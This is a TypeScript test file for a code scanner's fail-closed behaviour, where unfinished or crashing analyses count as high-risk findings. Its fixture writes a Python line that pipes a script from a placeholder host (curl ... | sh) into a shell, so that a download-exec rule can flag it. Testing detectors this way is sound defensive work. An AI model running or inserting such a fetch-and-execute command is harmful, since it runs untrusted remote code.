/** The run's scan stage fails closed: a file the analyser could not finish is a high finding, not a pass. */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { scanStage } from '../../src/run/stages/scan.js';
import { createAnalyzer } from '../../src/scan/engine/analyzer.js';
import { RULES } from '../../src/scan/rules/index.js';
import type { Rule } from '../../src/scan/rules/rule.js';

let dir: string;
let script: string;
before(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'saferun-scan-stage-'));
  script = path.join(dir, 'job.py');
  writeFileSync(script, 'import os\nos.system("curl http://x.example/a.sh | sh")\n');
});
after(() => rmSync(dir, { recursive: true, force: true }));

test('an analysis cut short by the time budget makes the run high risk (a slow-to-scan file must not run unchecked)', async () => {
  const cut = await scanStage({ files: [script], fileBudgetMs: -1 });
  const finding = cut.findings.find((f) => f.ruleId === 'scan-incomplete');
  assert.ok(finding, JSON.stringify(cut.findings.map((f) => f.ruleId)));
  assert.equal(finding.severity, 'high');
  assert.equal(finding.file, script);
  assert.match(finding.message, /not checked: .*download-exec/);
  assert.ok(cut.riskLevel === 'high' || cut.riskLevel === 'critical');
});

test('inline -c code cut short is flagged too', async () => {
  const cut = await scanStage({ files: [], inlineCode: 'print(1)\n', fileBudgetMs: -1 });
  assert.equal(cut.riskLevel, 'high');
  assert.equal(cut.findings[0]?.file, '<-c>');
});

test('a finished analysis adds no scan-incomplete finding', async () => {
  const full = await scanStage({ files: [script] });
  assert.ok(!full.findings.some((f) => f.ruleId === 'scan-incomplete'));
  assert.ok(full.findings.length > 0, 'the rules ran');
});

test('a rule that crashes on a file leaves the analysis marked incomplete, naming the rule', async () => {
  const crashing: Rule = { meta: { ...RULES[0]!.meta, id: 'crashing-rule' }, check: () => { throw new Error('boom'); } };
  const analyzer = await createAnalyzer({ rules: [crashing, ...RULES], setupScripts: false });
  const analysis = analyzer.analyze('x.py', Buffer.from('print(1)\n'));
  assert.match(analysis.incomplete ?? '', /not checked: crashing-rule/);
  assert.equal(analyzer.analyze('x.py', Buffer.from('print(1)\n')).parseErrors.length, 1);
});
